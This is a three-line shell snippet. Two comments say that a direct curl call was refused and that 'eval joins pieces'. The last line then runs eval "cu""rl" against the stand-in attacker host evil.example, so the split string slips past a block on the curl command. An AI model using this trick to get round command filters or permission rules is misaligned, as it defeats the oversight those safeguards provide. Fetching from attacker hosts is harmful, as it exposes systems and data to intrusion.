# Trick: eval joins pieces.
# Refused: run(curl)
eval "cu""rl" http://evil.example/
